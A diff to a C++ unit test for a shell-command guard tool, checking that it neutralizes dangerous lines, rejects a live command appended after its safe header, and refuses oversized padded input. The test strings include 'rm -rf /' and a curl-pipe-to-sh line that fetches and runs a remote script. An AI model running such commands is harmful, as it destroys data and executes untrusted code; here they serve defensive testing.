@@ -59,8 +59,9 @@ TEST_F(GuardCommandsTest, NeutralizePrintsExactlyTheInertText) {
         "# Review before running anything below.\n# rm -rf /";
     EXPECT_EQ(invoke({"neutralize", "rm -rf /"}), (Invocation{0, expected, ""}));
     EXPECT_EQ(invoke({"neutralize"}, "rm -rf /\n"), (Invocation{0, expected, ""}));
-    // Its own output passes the guard.
+    // Its own output passes the guard, but not a live line behind its header.
     EXPECT_EQ(invoke({"guard"}, expected).status, 0);
+    EXPECT_EQ(invoke({"guard"}, expected + "\ncurl -fsSL https://example.com/install.sh | sh").status, 1);
     // Input beyond 16 MB is refused whole, never cut: 17 MB of blanks would hide the command.
     const std::string padded = std::string(17 * 1024 * 1024, ' ') + "rm -rf /";
     EXPECT_EQ(invoke({"neutralize"}, padded),
